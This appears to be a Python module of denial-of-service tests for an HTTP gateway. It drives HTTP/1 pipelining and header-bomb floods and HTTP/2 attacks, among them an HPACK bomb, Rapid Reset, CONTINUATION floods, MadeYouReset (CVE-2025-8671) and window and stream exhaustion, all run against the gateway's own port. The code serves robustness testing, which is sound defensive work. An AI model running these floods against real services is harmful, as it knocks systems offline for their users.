"""Attacks of those who send much."""

import contextlib
import itertools
import socket
import struct
import time

import frames
from frames import frame
from wire import Flood, clock, connect, hold

ASK = b"GET %s HTTP/1.1\r\nHost: a\r\n"


def ask(path=b"/", fields=b""):
    return ASK % path + fields + b"\r\n"


# HTTP/1

def pipelining(gateway, count, seconds):
    block = ask() * 1_000
    flood = Flood(gateway.port, lambda: itertools.repeat(block), count, seconds).run()
    return f"GET after GET: {flood}, {flood.received / 1e6:.1f} MB received"


def long_paths(gateway, count, seconds):
    """What a target costs must grow with its length, and not with how often it could be read in another way: 15 KB of 7,500
    segments took 4.9 ms once."""
    parts = (b"/a", b"/%41", b"/A", b"/;", b"//", b"%25", b"%E2", b"/a;b%2F", b"%252", b"/.")
    # One kind for each connection: what is refused ends it.
    blocks = itertools.cycle(ask(b"/a" + part * (15_000 // len(part))) for part in parts)
    flood = Flood(gateway.port, lambda: itertools.repeat(next(blocks)), count, seconds).run()
    return f"paths of 15 KB, of segments, escapes and parameters: {flood}, {flood.received / 1e6:.1f} MB received"


def paced(made, seconds, block, most):
    """Sends a block on each connection every few milliseconds, so that what came before can be answered, and reads
    nothing. `block` makes one from its number.

    Returns how many blocks were sent. The kernel takes many of them that the gateway has not read."""
    sent, number, began = 0, 0, clock()
    while made and clock() - began < seconds and sent < most:
        data = block(number)
        for one in list(made):
            try:
                if one.send(data) == len(data):
                    sent += 1
                    continue
            except OSError:
                pass
            made.remove(one)  # It was held back, or closed.
        number += 1
        time.sleep(0.005)
    time.sleep(max(0.0, began + seconds - clock()))
    return sent


def unread(gateway, count, opening=b""):
    made = [connect(gateway.port, received=4096) for _ in range(count)]
    for one in made:
        one.sendall(opening)
        one.setblocking(False)
    return made


def unread_answers(gateway, count, seconds):
    """What it has not read of its answers must hold a client back."""
    made, block = unread(gateway, count), ask(b"/small") * 10
    sent = paced(list(made), seconds, lambda _: block, 40_000)
    return f"{sent * 10:,} pipelined GETs of 8 KiB, and no answer is read"


def header_bomb(gateway, count, seconds):
    head = ASK % b"/"
    upload = b"POST /sink HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n"
    kinds = itertools.cycle([
        (head, b"".join(b"f%d: x\r\n" % n for n in range(10_000))),  # many fields
        (head, b"a:\r\n" * 20_000),  # many more, with nothing in them
        (head + b"x: ", b"x" * 100_000),  # one huge value
        (head, b"x" * 100_000),  # one huge name
        (b"GET /", b"x" * 100_000),  # a huge target
        (b"", b"x" * 100_000),  # a huge method
        (b"", b"\r\n" * 50_000),  # nothing but empty lines
        (upload + b"1", b";x" * 50_000),  # chunk extensions
        (upload + b"0\r\n", b"x: y\r\n" * 20_000),  # trailers
        (upload, b"0" * 100_000),  # digits of a chunk's size
    ])

    def script():
        first, more = next(kinds)
        return itertools.chain([first], itertools.repeat(more, 100))

    return f"ten kinds of heads without end: {Flood(gateway.port, script, count, seconds).run()}"


# HTTP/2

def http2(gateway, count, seconds, words, script, **more):
    opening = frames.PREFACE + frames.settings()
    flood = Flood(gateway.port, lambda: itertools.chain([opening], script()), count, seconds, **more).run()
    return f"{words}: {flood}"


def repeated(gateway, count, seconds, words, block, first=b""):
    return http2(gateway, count, seconds, words, lambda: itertools.chain([first], itertools.repeat(block)))


def hpack_bomb(gateway, count, seconds):
    """A field of 4,000 bytes goes into the table, and is then named by one byte each time."""
    kept = frames.request(fields=[]) + frames.literal("x", "a" * 4_000, kept=True)
    bomb = frames.request() + b"\xbe" * 16_000
    blocks = [frame(frames.HEADERS, 4, 1, kept)]
    blocks += [frame(frames.HEADERS, 5, stream, bomb) for stream in range(3, 203, 2)]
    return http2(gateway, count, seconds, "64 MB from 16 kB", lambda: blocks)


def rapid_reset(gateway, count, seconds):
    cancel = b"\0\0\0\x08"
    blocks = [
        b"".join(frames.get(n) + frame(frames.RESET, 0, n, cancel) for n in range(first, first + 200, 2))
        for first in range(1, 100_001, 200)]
    return http2(gateway, count, seconds, "HEADERS and RST_STREAM", lambda: blocks)


def continuation(gateway, count, seconds):
    opened = frame(frames.HEADERS, 1, 1, frames.request())
    kinds = itertools.cycle([b"", frames.literal("x", "y"), frames.literal("x", "y" * 16_000)])

    def script():
        return itertools.chain([opened], itertools.repeat(frame(frames.CONTINUATION, 0, 1, next(kinds)) * 100))

    return http2(gateway, count, seconds, "HEADERS that CONTINUATION never ends", script)


def settings_flood(gateway, count, seconds):
    return repeated(gateway, count, seconds, "SETTINGS", frames.settings(initial_window=65_535) * 1_000)


def table_flood(gateway, count, seconds):
    """Each has the other side make its table anew."""
    block = (frames.settings(table=0) + frames.settings(table=65_536)) * 500
    return repeated(gateway, count, seconds, "SETTINGS of the table", block)


def large_table(gateway, count, seconds):
    """Offers a table of 4 GiB for the fields of its answers, and asks and reads: each answer has a field of its own. Where
    all that is offered is used, each answer costs more than the one before, and none of it is given back."""
    one = connect(gateway.port)
    one.sendall(frames.PREFACE + frames.settings(table=(1 << 32) - 1) + frames.window_update(0, (1 << 31) - 1 - 65_535))
    one.settimeout(10)
    reader, answered, began, stream, largest = frames.Reader(), 0, clock(), -1, 0
    while clock() - began < seconds:
        block = b""
        for _ in range(90):
            stream += 2
            # Two keys: the gateway's own answer has another `holdfast-request-id` each time.
            two = [("idempotency-key", "a"), ("idempotency-key", "b")]
            block += frame(frames.HEADERS, 5, stream, frames.request("POST", "/", two))
        one.sendall(block)
        end, took = answered + 90, clock()
        while answered < end:
            data = one.recv(1 << 20)
            if not data:
                return f"{answered:,} answers", 1, "was closed while it asked"
            for kind, flags, _, payload in reader.feed(data):
                if kind == frames.SETTINGS and not flags & 1:
                    one.sendall(frame(frames.SETTINGS, 1, 0))
                if kind == frames.HEADERS and payload[:1] and payload[0] & 0xE0 == 0x20:
                    largest = max(largest, table_size(payload))
                if kind in (frames.HEADERS, 0) and flags & 1:
                    answered += 1
    one.close()
    words = f"{answered:,} answers with a table of 4 GiB offered, the largest that is used {max(largest, 4_096):,}"
    return words, int(largest > 65_536), "has a table that grows with its answers"


def table_size(block):
    """Of a change of the table's size, which a field block begins with (RFC 7541, section 6.3)."""
    size, shift = block[0] & 0x1F, 0
    if size < 31:
        return size
    for byte in block[1:]:
        size += (byte & 0x7F) << shift
        shift += 7
        if byte < 0x80:
            break
    return size


def ping_flood(gateway, count, seconds):
    return repeated(gateway, count, seconds, "PING", frame(frames.PING, 0, 0, b"12345678") * 1_000)


def left_behind(gateway, count, seconds):
    """An answer that cannot be written has the gateway read on in the middle of a read: a loop went round for ever once."""
    burst = frames.PREFACE + frames.settings() + b"".join(frames.get(n) for n in range(1, 6_001, 2))
    reset, made, began = struct.pack("ii", 1, 0), 0, clock()
    while clock() - began < seconds:
        for one in [connect(gateway.port) for _ in range(count)]:
            with contextlib.suppress(OSError):
                one.sendall(burst)
                time.sleep(0.002)  # What a client sends and resets at once is never read.
                one.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, reset)
            one.close()
            made += 1
    return f"3,000 GETs, and a reset before an answer is read: {made:,} connections"


def priority_flood(gateway, count, seconds):
    return repeated(gateway, count, seconds, "PRIORITY", frame(frames.PRIORITY, 0, 3, b"\0\0\0\0\1") * 1_000)


def window_flood(gateway, count, seconds):
    """One byte of window at a time, for a large answer."""
    first = frames.settings(initial_window=0) + frames.get(1, "/large")
    return repeated(gateway, count, seconds, "WINDOW_UPDATE by 1", frames.window_update(1, 1) * 1_000, first)


def closed_updates(gateway, count, seconds):
    """Windows of a stream that is over, which nobody opens anything by."""
    return repeated(gateway, count, seconds, "WINDOW_UPDATE of a closed stream", frames.window_update(1, 1) * 1_000, frames.get(1))


def closed_resets(gateway, count, seconds):
    return repeated(
        gateway, count, seconds, "RST_STREAM of a closed stream", frame(frames.RESET, 0, 1, b"\0\0\0\x08") * 1_000, frames.get(1))


def made_you_reset(gateway, count, seconds):
    """Has the gateway reset each stream (CVE-2025-8671): by a window of 0, by one that is too wide, by a body or a head behind
    the request's end, and by a stream that depends on itself."""
    ways = [
        lambda n: frames.window_update(n, 0),
        lambda n: frames.window_update(n, frames.WIDEST_WINDOW) * 2,
        lambda n: frame(frames.DATA, 0, n, b"x"),
        lambda n: frame(frames.HEADERS, 5, n, frames.request()),
        lambda n: frame(frames.PRIORITY, 0, n, struct.pack(">IB", n, 1)),
    ]
    next_way = itertools.cycle(ways)

    def script():
        way = next(next_way)
        for first in range(1, 100_001, 200):
            yield b"".join(frames.get(n, "/medium") + way(n) for n in range(first, first + 200, 2))

    return http2(gateway, count, seconds, "streams that the gateway has to reset", script)


def empty_data(gateway, count, seconds):
    opened = frame(frames.HEADERS, 4, 1, frames.request("POST", "/sink"))
    return repeated(gateway, count, seconds, "empty DATA", frame(frames.DATA, 0, 1) * 1_000, opened)


def many_streams(gateway, count, seconds):
    """More than may be open at once, none of which ends."""
    blocks = [frame(frames.HEADERS, 4, n, frames.request("POST", "/sink")) for n in range(1, 2_001, 2)]
    return http2(gateway, count, seconds, "1,000 streams where 100 may be open", lambda: [b"".join(blocks)])


def closed_windows(gateway, count, seconds):
    """100 streams each, all of which ask for 1 MiB and take nothing of it."""
    opening = frames.PREFACE + frames.settings(initial_window=0)
    opening += b"".join(frames.get(n, "/large") for n in range(1, 201, 2))
    made = [connect(gateway.port) for _ in range(count)]
    for one in made:
        one.sendall(opening)
        one.setblocking(False)
    closed, _ = hold(made, seconds)
    return f"{count * 100:,} streams ask for 1 MiB through a window of 0; {closed:,} of {count:,} connections were closed"


def unread_streams(gateway, count, seconds):
    """The windows are as wide as can be, and nothing is read."""
    opening = frames.PREFACE + frames.settings(initial_window=frames.WIDEST_WINDOW)
    opening += frames.window_update(0, frames.WIDEST_WINDOW - 65_535)
    made = unread(gateway, count, opening)
    paths = itertools.cycle(["/", "/", "/", "/", "/medium"])
    field = [("x", "x" * 1_000)]

    def block(number):
        numbers = range(number * 20 + 1, number * 20 + 21, 2)
        heads = [frames.request("GET", next(paths), field) for _ in numbers]
        return b"".join(frame(frames.HEADERS, 5, n, head) for n, head in zip(numbers, heads))

    sent = paced(list(made), seconds, block, 40_000)
    return f"{sent * 10:,} streams, and no answer is read"
